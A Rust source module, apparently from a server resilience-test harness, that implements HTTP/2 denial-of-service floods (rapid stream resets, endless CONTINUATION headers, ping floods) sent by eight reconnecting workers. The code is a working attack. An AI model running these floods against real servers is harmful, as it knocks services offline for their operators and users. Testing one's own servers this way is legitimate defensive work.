//! HTTP/2 frames that cost whoever reads them more than whoever sends them.

use serde_json::{Value, json};

use super::{Target, many};
use crate::h2::{self, H2};
use crate::wire::{call, pause};

fn read() -> Value {
    call(1, "read_file", &json!({ "path": "a.txt" }))
}

/// Requests that are taken back at once.
pub(super) async fn resets(target: Target) {
    flood(target, |from| {
        let streams = (0..100).map(|n| (from * 100 + n) * 2 + 1);
        streams.flat_map(|stream| h2::reset(stream, &read())).collect()
    })
    .await;
}

/// Headers that go on and on.
pub(super) async fn endless_heads(target: Target) {
    flood(target, |from| match from {
        0 => h2::endless_head(1, &read()),
        _ => h2::continuation(1),
    })
    .await;
}

/// Pings, each of which asks for an answer.
pub(super) async fn pings(target: Target) {
    flood(target, |_| h2::ping().repeat(100)).await;
}

/// Sends one batch after another until the server has had enough, and begins anew.
async fn flood(target: Target, batch: fn(u32) -> Vec<u8>) {
    many(8, move |_| async move {
        while target.goes_on() {
            if let Ok(connection) = H2::connect(target.address, 65_535).await {
                let sent = async {
                    let mut from = 0;
                    while target.goes_on() && connection.send(&batch(from)).await.is_ok() {
                        from += 1;
                        pause(2).await;
                    }
                };
                let (_closed, ()) = tokio::join!(connection.tend(), sent);
            }
            pause(50).await;
        }
    })
    .await;
}
